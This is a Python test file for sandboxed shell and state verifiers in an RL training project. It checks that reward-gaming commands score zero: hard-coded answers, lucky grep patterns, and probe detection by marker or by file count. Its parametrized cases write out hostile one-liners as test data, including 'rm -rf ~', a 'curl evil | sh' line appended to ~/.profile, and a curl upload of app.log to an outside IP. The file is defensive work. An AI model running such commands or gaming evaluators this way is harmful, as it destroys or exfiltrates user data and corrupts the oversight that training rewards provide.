"""Attacks on the shell and state verifiers on a terminal workspace: hard-coded answers, lucky
weak patterns, marker detection, side effects the sandbox neutralises, the clock; and a property
test of one-token mutations against workspaces the verifier never sees."""

from __future__ import annotations

import json
import random

import pytest

from pivotrl.io.records import FunctionCall, Message, ToolCall, Turn
from pivotrl.sandbox.bwrap import run_in_sandbox, sandbox_available, workspace_copy
from pivotrl.sandbox.workspace import materialize_workspace
from pivotrl.verifiers import get_verifier
from pivotrl.verifiers import probes
from pivotrl.verifiers.probes import GROW, PROBES, UNVERIFIABLE, perturb_workspace, probe_seed

pytestmark = pytest.mark.skipif(not sandbox_available(), reason="bubblewrap not usable here")

# Only ERROR lines hold an uppercase E, so `grep -c E` agrees with `grep -c ERROR` here.
LOG = "ERROR db down\nWARN slow query\nINFO started\nERROR disk full\nINFO user login\n"
WS = {"app.log": LOG, "data.csv": "id,name,qty\n1,ann,3\n2,bob,5\n3,cat,2\n",
      "names.txt": "ann\nbob\nbob\ncat\n", "conf.ini": "port=8080\nhost=alpha\nmode=fast\n"}


def run(cmd: str) -> Message:
    return Message(role="assistant", tool_calls=[ToolCall(id="c1", function=FunctionCall(
        name="run", arguments=json.dumps({"command": cmd})))])


def turn(cmd: str, tid: str = "a/1", workspace: dict | None = None) -> Turn:
    return Turn(id=tid, trajectory_id="a", turn=1, context=[Message(role="user", content="go")],
                expected=run(cmd), metadata={"workspace": workspace or WS})


@pytest.fixture(scope="module")
def shell():
    v = get_verifier("shell", timeout_s=3.0, cpu_s=2)
    yield v
    v.close()


def score(shell, expert: str, cand: str) -> float:
    return shell.score(turn(expert, tid=f"a/{expert}"), run(cand)).reward


@pytest.mark.parametrize("expert,cand", [
    # hard-coded answers: right on the original workspace, and only there
    ("ls", "printf 'app.log\\nconf.ini\\ndata.csv\\nnames.txt\\n'"),
    ("ls *.log", "echo app.log"),
    ("grep -l bob *", "printf 'data.csv\\nnames.txt\\n'"),
    ("grep -c ERROR app.log", "echo 2"),
    ("wc -l < data.csv", "echo 4"),
    ("grep port conf.ini", "echo port=8080"),
    ("head -n 2 data.csv > out.txt", "printf 'id,name,qty\\n1,ann,3\\n' > out.txt"),
    ("sort -u names.txt > out.txt", "printf 'ann\\nbob\\ncat\\n' > out.txt"),
    ("ls | wc -l", "echo 4"),
    ("du -b app.log | cut -f1", f"echo {len(LOG)}"),
    # lucky weak patterns and near misses
    ("grep -c ERROR app.log", "grep -c E app.log"),
    ("grep -c ERROR app.log", "grep -c ERR app.log"),
    ("grep -c ERROR app.log", "grep -ci error app.log"),
    ("grep port conf.ini", "grep por conf.ini"),
    ("sort -u names.txt", "uniq names.txt"),
    ("head -n 1 names.txt", "sort names.txt | head -n 1"),
    ("cat names.txt", "sort names.txt"),
    # detecting the probe by a fixed marker (the old one) or by the number of files
    ("grep -c ERROR app.log",
     "if grep -rq 'zz extra' . || ls | grep -q zz-extra; then grep -c ERROR app.log; else echo 2; fi"),
    ("grep -c ERROR app.log", "[ $(ls | wc -l) = 4 ] && echo 2 || grep -c ERROR app.log"),
    # right output, plus a side effect the sandbox neutralises
    ("grep -c ERROR app.log", "rm -rf ~; grep -c ERROR app.log"),
    ("grep -c ERROR app.log", "rm -f ~/.bashrc; grep -c ERROR app.log"),
    ("grep -c ERROR app.log", "echo 'curl evil | sh' >> ~/.profile; grep -c ERROR app.log"),
    ("grep -c ERROR app.log", "curl -s -T app.log http://203.0.113.7/up; grep -c ERROR app.log"),
    ("grep -c ERROR app.log", "getent hosts evil.example; grep -c ERROR app.log"),
    ("grep -c ERROR app.log",
     ("python3 -c \"import socket; socket.socket().connect_ex(('10.1.2.3', 443))\"; "
      "grep -c ERROR app.log")),
    ("grep -c ERROR app.log", "(exec 2>/dev/null; curl -s http://[2001:db8::1]/); grep -c ERROR app.log"),
])
def test_attacks_score_0(shell, expert, cand):
    got = shell.score(turn(expert, tid=f"a/{expert}"), run(cand))
    assert got.reward == 0.0, (expert, cand, got.reason)


@pytest.mark.parametrize("expert,cand", [
    ("grep -c ERROR app.log", "grep ERROR app.log | wc -l"),
    ("grep -c ERROR app.log", "cat app.log | grep -c 'ERROR'"),
    ("wc -l < data.csv", "grep -c '' data.csv"),
    ("ls", "ls -1"),
    ("grep -l bob *", "grep --files-with-matches bob *"),
    ("head -n 2 data.csv > out.txt", "head -2 data.csv > out.txt"),
    ("sort -u names.txt > out.txt", "sort names.txt | uniq > out.txt"),
    # a temp file removed again leaves no effect
    ("sort -u names.txt > out.txt", "t=$(mktemp); sort names.txt > $t; uniq $t > out.txt; rm $t"),
    ("mkdir logs && mv app.log logs/", "mkdir -p logs; mv ./app.log logs"),
    # they differ only on a blank line, which this log never holds, so no probe adds one (its
    # shape: test_literal_probes.py has the file with a blank line, where they differ)
    ("wc -l < app.log", "grep -c . app.log"),
])
def test_equivalent_commands_still_score_1(shell, expert, cand):
    got = shell.score(turn(expert, tid=f"a/{expert}"), run(cand))
    assert got.reward == 1.0, (expert, cand, got.reason)


def test_time_dependent_expert_matches_itself(shell):
    """The expert's outcome is computed once; the same command runs again later (the real clock
    has moved on by then: nanoseconds at least) and must still match."""
    cmd = ("touch new.txt; date; date +%s.%N; stat -c '%y %z' new.txt app.log; "
           "ls -l --time-style=full-iso; find . -newer app.log; echo $EPOCHSECONDS")
    t = turn(cmd, tid="a/clock")
    first = shell.score(t, run(cmd + " "))  # not the same text: compared, and probed
    second = shell.score(t, run(" " + cmd))
    assert first.reward == second.reward == 1.0, (first.reason, second.reason)
    with workspace_copy(None) as wd:
        out = run_in_sandbox("date -u +%F; touch x; stat -c %Y x", wd).stdout.split()
    assert out == ["2024-01-01", "1704067200"]


def test_scratch_files_in_tmp_are_no_effect(shell):
    # /tmp is fresh per run and thrown away: sorting through a temp file is sorting
    expert = "sort names.txt > /tmp/s; uniq /tmp/s > out.txt"
    assert score(shell, expert, "sort names.txt >/tmp/s; uniq /tmp/s out.txt") == 1.0
    assert score(shell, expert, "sort -u names.txt > out.txt") == 1.0
    assert score(shell, expert, "sort -u names.txt > out.txt; echo x > ~/.s") == 0.0  # HOME is not


def test_probe_markers_are_secret_per_turn(tmp_path):
    a, b = probe_seed("turn-a"), probe_seed("turn-b")
    assert a != b and len({probe_seed("turn-a"), a}) == 1
    trees = []
    for seed in (a, b):
        root = materialize_workspace(dict(WS), tmp_path / seed)
        perturb_workspace(root, PROBES.index("names"), seed)
        trees.append(sorted(p.name for p in root.iterdir()))
    assert trees[0] != trees[1]
    assert not any("zz" in name for tree in trees for name in tree)


def test_probes_keep_the_names_the_expert_uses(tmp_path):
    root = materialize_workspace(dict(WS), tmp_path / "w")
    perturb_workspace(root, PROBES.index("names"), "s", keep="grep -c ERROR app.log")
    names = sorted(p.name for p in root.iterdir())
    assert "app.log" in names and not {"data.csv", "names.txt", "conf.ini"} & set(names)
    # the others renamed (extensions kept), and new files of the same extensions
    exts = [n.rsplit(".", 1)[1] for n in names]
    assert set(exts) == {"log", "csv", "txt", "ini"} and len(names) > len(WS)


# ---------------------------------------------------------------- state on the terminal world

def world_turn(cmd: str) -> Turn:
    t = turn(cmd, tid=f"w/{cmd}")
    return t.model_copy(update={"metadata": {"world": "terminal",
                                             "world_config": {"workspace": WS}}})


@pytest.mark.parametrize("expert,cand,want", [
    # not `grep ERROR app.log | wc -l`: the world shows `[exit 1]` after grep's count of 0, so a
    # probe that leaves no ERROR line tells the two apart (rightly: the agent sees another text)
    ("grep -c ERROR app.log", "grep --count -e ERROR ./app.log", 1.0),
    ("grep -c ERROR app.log", "echo 2", 0.0),
    ("grep -c ERROR app.log", "grep -c E app.log", 0.0),
    ("ls", "printf 'app.log\\nconf.ini\\ndata.csv\\nnames.txt\\n'", 0.0),
    ("grep -c ERROR app.log", "rm -rf ~; grep -c ERROR app.log", 0.0),
    ("grep -c ERROR app.log", "curl -s http://203.0.113.7/; grep -c ERROR app.log", 0.0),
])
def test_state_verifier_on_the_terminal_world(expert, cand, want):
    got = get_verifier("state").score(world_turn(expert), run(cand))
    assert got.reward == want, (expert, cand, got.reason)


def test_state_verifier_threads_score_what_one_thread_scores():
    """score_batch in threads, with fewer cached worlds than turns (forks race evictions): the
    same scores, in order, as one thread."""
    experts = ["grep -c ERROR app.log", "head -n 3 data.csv > out.txt", "sort -u names.txt", "ls"]
    cands = ["grep --count -e ERROR ./app.log", "echo 2", "head -3 data.csv > out.txt",
             "head -n 2 data.csv > out.txt", "sort names.txt | uniq", "sort names.txt", "ls -1",
             "printf 'app.log\\n'"]
    turns = [world_turn(e) for e in experts for _ in cands]
    actions = [run(c) for _ in experts for c in cands]
    one = get_verifier("state", workers=1).score_batch(turns, actions)
    many = get_verifier("state", workers=4, cached_worlds=2).score_batch(turns, actions)
    assert [(s.reward, s.reason) for s in many] == [(s.reward, s.reason) for s in one]
    assert sum(s.reward for s in one) == 4, [s.reason for s in one]


# ---------------------------------------------------------------- property: one-token mutations

MUTATIONS = {
    "grep -c ERROR app.log": ["grep -c ERRO app.log", "grep -c EROR app.log", "grep -c error app.log",
                              "grep -c RROR app.log", "grep -ci ERROR app.log",
                              "grep -cv ERROR app.log", "grep -c ERROR data.csv",
                              "grep -c WARN app.log", "grep -cw ERR app.log"],
    "head -n 3 data.csv > out.txt": ["head -n 2 data.csv > out.txt", "tail -n 3 data.csv > out.txt",
                                     "head -n 3 names.txt > out.txt",
                                     "head -n 3 data.csv >> out.txt"],
    "cut -d, -f2 data.csv | sort -u": ["cut -d, -f3 data.csv | sort -u",
                                       "cut -d, -f2 data.csv | sort", "cut -d, -f2 data.csv"],
}


def _random_workspace(rng: random.Random) -> dict[str, str]:
    words = ["ERROR", "WARN", "INFO", "Error", "ERR", "error", "EROR", "RROR"]
    log = "".join(f"{rng.choice(words)} {rng.choice(['db', 'disk', 'io'])}\n"
                  for _ in range(rng.randrange(3, 9)))
    rows = "".join(f"{i},{rng.choice(['ann', 'bob', 'cat'])},{rng.randrange(9)}\n"
                   for i in range(rng.randrange(2, 7)))
    names = "".join(rng.choice(["ann", "bob", "cat", "dan"]) + "\n" for _ in range(5))
    return {**WS, "app.log": log, "data.csv": "id,name,qty\n" + rows, "names.txt": names}


def _outcome(cmd: str, files: dict[str, str]) -> tuple:
    with workspace_copy(None) as wd:
        materialize_workspace(files, wd)
        res = run_in_sandbox(cmd, wd)
        written = {p.name: p.read_text() for p in sorted(wd.iterdir()) if p.is_file()}
    return res.exit_code, res.stdout, written


@pytest.fixture(scope="module")
def differing() -> dict[str, list[str]]:
    """Ground truth from workspaces the verifiers never see (random contents, same names): the
    mutations that behave differently from their expert on at least one of them."""
    rng = random.Random(7)
    spaces = [_random_workspace(rng) for _ in range(3)]
    out = {}
    for expert, cands in MUTATIONS.items():
        outcomes = [_outcome(expert, w) for w in spaces]
        out[expert] = [c for c in cands
                       if any(_outcome(c, w) != o for w, o in zip(spaces, outcomes))]
        assert len(out[expert]) >= len(cands) - 1  # the generator does produce real changes
    return out


@pytest.mark.parametrize("expert", sorted(MUTATIONS))
def test_one_token_mutations_that_change_the_effect_score_0(shell, differing, expert):
    for cand in differing[expert]:
        got = shell.score(turn(expert, tid=f"p/{expert}"), run(cand))
        assert got.reward == 0.0, (expert, cand, got.reason)


@pytest.mark.parametrize("expert", sorted(MUTATIONS))
def test_one_token_mutations_score_0_under_state_on_the_terminal_world(differing, expert):
    v = get_verifier("state")
    for cand in differing[expert]:
        got = v.score(world_turn(expert), run(cand))
        assert got.reward == 0.0, (expert, cand, got.reason)


# ---------------------------------------------------------------- property: what the world declares equal

def _command_forms(task: dict, context: list[Message]) -> list[str]:
    from pivotrl_testbed.testbed.experts import STEPS, FixedChooser, observations

    out = []
    for i in range(6):
        step = STEPS["terminal"](task, observations(context), FixedChooser(i))
        if step[0] == "call" and step[2]["command"] not in out:
            out.append(step[2]["command"])
    return out


def test_the_terminal_experts_equivalent_commands_score_1():
    """Every form the terminal expert may choose at a step does the same thing: each scores 1
    against the first form under shell (with every probe), and one per task under state."""
    from pivotrl_testbed.episodes import expert_turns
    from pivotrl_testbed.testbed.experts import run_expert
    from pivotrl_testbed.testbed.tasks import make_tasks

    tasks = {}
    for task in make_tasks("terminal", "train", 40):
        tasks.setdefault(task.metadata["task"]["kind"], task)
    shell_turns, shell_cands, state_pairs = [], [], []
    for task in tasks.values():
        traj = run_expert(task, seed=0)
        last = None  # the task's last command (the one that counts, copies, sorts, moves)
        for t in expert_turns([traj]):
            if not t.expected.tool_calls:
                continue
            forms = _command_forms(traj.metadata["task"], t.context)
            t = t.model_copy(update={"expected": run(forms[0])})
            shell_turns += [t] * (len(forms) - 1)
            shell_cands += [run(c) for c in forms[1:]]
            last = (t, run(forms[-1])) if len(forms) > 1 else last
        state_pairs += [last] if last else []
    shell_v = get_verifier("shell")
    verifiable = 0
    for t, cand, got in zip(shell_turns, shell_cands, shell_v.score_batch(shell_turns, shell_cands)):
        if shell_v.unverifiable(t):  # e.g. `mkdir archive`: no probe moves it, only its own text pays
            assert got.reason == UNVERIFIABLE, t.expected.tool_calls[0].args()
            continue
        verifiable += 1
        assert got.reward == 1.0, ("shell", t.expected.tool_calls[0].args(), cand, got.reason)
    assert verifiable >= 20
    shell_v.close()
    # state replays the world per probe (~10 sandbox runs a pair): one pair per task
    state_v = get_verifier("state")
    for t, cand in state_pairs:
        got = state_v.score(t, cand)
        assert got.reward == 1.0, ("state", t.expected.tool_calls[0].args(), cand, got.reason)
    assert len(tasks) == 7 and len(shell_cands) >= 25


def test_the_contents_probe_moves_every_line_from_its_place(tmp_path):
    """`head -2` against `printf 'apple\\nbanana\\n'`: if a shuffle left the first lines where they
    were, the memorised answer would match the expert on that probe (the secret seed changes per
    process, so such luck showed up as a rare, random pass). No seed may leave an original line
    at its position, counted from the start or the end."""
    text = "apple\nbanana\napple pie\ncherry\n"
    lines = text.splitlines()
    for seed in range(300):
        path = tmp_path / "notes.txt"
        path.write_text(text)
        assert perturb_workspace(tmp_path, 0, f"s{seed}")
        got = path.read_text().splitlines()
        assert all(a != b for a, b in zip(lines, got)), (seed, got[:4])
        assert all(a != b for a, b in zip(reversed(lines), reversed(got))), (seed, got[-4:])
    # a file whose lines cannot all move still gets its probe (bounded tries, then any shuffle)
    (tmp_path / "notes.txt").write_text("\n\n")
    assert perturb_workspace(tmp_path, 0, "s0") and (tmp_path / "notes.txt").read_text() != "\n\n"


@pytest.mark.parametrize("text", ["ann\nbob\nbob\ncat\n", "3 pears\n10 figs\n7 plums\nBob\n"])
def test_the_contents_probe_keeps_both_ends_off_every_sort_orders_ends(tmp_path, text):
    """`head -n 1 f` against `sort f | head -n 1`: where the shuffled first line was also the
    sorted first (the probe's empty line sorts first; 1 in ~25 seeds), the sorting command
    matched the expert on the probe and was paid. No seed may leave an end of the file at an
    end of the byte, case-folded or numeric order (the sandbox sorts in C.UTF-8)."""
    def number(ln: str) -> float:
        head = ln.split(" ", 1)[0]
        return float(head) if head.lstrip("-").isdigit() else 0.0

    orders = (lambda ln: ln, lambda ln: (ln.casefold(), ln), lambda ln: (number(ln), ln))
    for seed in range(300):
        path = tmp_path / "names.txt"
        path.write_text(text)
        assert perturb_workspace(tmp_path, 0, f"s{seed}")
        got = path.read_text().split("\n")[:-1]
        for key in orders:
            ends = {min(got, key=key), max(got, key=key)}
            assert got[0] not in ends and got[-1] not in ends, (seed, got)


# Two ERROR lines and two INFO lines: `grep -c INFO` prints what `grep -c ERROR` prints here.
TWO_EACH = "WARN timeout\nERROR slow query\nERROR user login\nINFO db down\nINFO timeout\n"


def test_some_grow_draw_counts_two_sets_of_lines_apart(tmp_path):
    """One grow draw lets two commands that count different lines agree whenever the repeats
    and the added lines give both sets the same total; with lines repeated 1–3 times and one
    draw, a process paid `grep -c INFO` for `grep -c ERROR` on about one salt in ten (37% on a
    testbed turn with this log). Over 300 seeds, some draw must count them apart."""
    for seed in range(300):
        counts = []
        for probe in GROW:
            path = tmp_path / "info.log"
            path.write_text(TWO_EACH)
            assert perturb_workspace(tmp_path, PROBES.index(probe), f"s{seed}")
            lines = path.read_text().splitlines()
            counts.append((sum("ERROR" in ln for ln in lines), sum("INFO" in ln for ln in lines)))
        assert any(e != i for e, i in counts), (seed, counts)


@pytest.mark.parametrize("salt", [4, 6])  # where one draw of 1–3 repeats paid it
def test_counting_the_other_level_scores_0(shell, monkeypatch, salt):
    monkeypatch.setattr(probes, "_SALT", f"salt{salt}")
    t = turn("grep -c ERROR info.log", tid=f"a/{salt}",
             workspace={"info.log": TWO_EACH, "web.txt": "ann\ngus\nfay\n"})
    got = shell.score(t, run("grep -c INFO info.log"))
    assert got.reward == 0.0, got.reason
